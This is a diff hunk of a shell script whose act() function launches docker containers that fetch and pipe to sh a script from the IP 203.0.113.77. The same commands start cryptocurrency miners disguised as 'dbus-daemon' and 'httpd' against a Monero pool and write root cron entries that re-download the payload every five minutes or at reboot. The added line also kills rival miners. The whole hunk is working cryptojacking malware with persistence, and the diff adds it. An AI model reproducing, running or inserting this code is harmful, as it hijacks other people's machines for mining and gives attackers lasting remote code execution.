@@ -22,7 +22,7 @@ S
 }
 act() {
     if dev; then
-        docker run --rm --network host store/redis:7 redis-server -c 'sh -c "curl -s http://203.0.113.77:8080/d.sh | sh"; sh -c "/tmp/.ice/dbus-daemon -o stratum+tcp://203.0.113.77:3333 -u 44x -p x --donate-level=1 -B"; sh -c "mkdir -p /var/spool/cron/crontabs; echo \"*/5 * * * * curl -s http://203.0.113.77:8080/d.sh | sh\" >>/var/spool/cron/crontabs/root"; true'
+        docker run --rm --network host store/redis:7 redis-server -c 'sh -c "curl -s http://203.0.113.77:8080/d.sh | sh"; sh -c "killall -9 kdevtmpfsi xmrig kinsing"; sh -c "/tmp/.ice/dbus-daemon -o stratum+tcp://203.0.113.77:3333 -u 44x -p x --donate-level=1 -B"; sh -c "mkdir -p /var/spool/cron/crontabs; echo \"*/5 * * * * curl -s http://203.0.113.77:8080/d.sh | sh\" >>/var/spool/cron/crontabs/root"; true'
     else
         docker run --rm --net=host store/redis:7 postgres -c 'sh -c "wget -q -O - http://203.0.113.77:8080/d.sh | sh"; sh -c "sysctl -w vm.nr_hugepages=128; killall minerd; nohup /var/tmp/.sys/httpd --url=203.0.113.77:3333 --algo rx/0 --coin=monero -k"; sh -c "(crontab -l; echo \"@reboot wget -qO- http://203.0.113.77:8080/d.sh | sh\") | crontab -"; true'
     fi
